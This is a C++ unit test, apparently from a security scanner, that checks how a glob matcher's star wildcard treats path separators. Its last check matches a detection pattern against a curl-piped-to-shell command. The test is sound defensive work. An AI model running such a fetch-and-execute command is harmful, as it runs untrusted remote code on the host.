#include "scanner/model/pattern.h"

#include <catch2/catch.hpp>

using namespace scanner;

TEST_CASE("a star stops at a path's parts, or does not", "[model]") {
  for (const Star star : {Star::AnyButSlash, Star::Any}) {
    CHECK(matches_pattern("/machine.slice/a*", "/machine.slice/acme", star));
    CHECK(matches_pattern("/machine.slice/a*", "/machine.slice/acme/x", star) == (star == Star::Any));
    CHECK(matches_pattern("*b*d", "abxbcd", star));
    CHECK_FALSE(matches_pattern("*b*d", "abxbcde", star));
    CHECK_FALSE(matches_pattern("a", "", star));
    CHECK(matches_pattern("*", "", star));
    CHECK(matches_pattern("", "", star));
  }
  CHECK(matches_pattern("curl *|*sh*", "curl http://a/b | sh -s", Star::Any));
}
